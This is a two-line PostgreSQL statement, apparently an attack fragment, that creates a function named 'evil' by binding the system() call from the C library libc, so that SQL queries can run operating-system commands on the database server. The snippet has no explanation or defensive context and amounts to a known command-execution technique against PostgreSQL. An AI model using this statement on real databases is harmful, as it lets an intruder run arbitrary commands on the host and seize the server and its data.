CREATE FUNCTION evil() RETURNS int
  AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C;
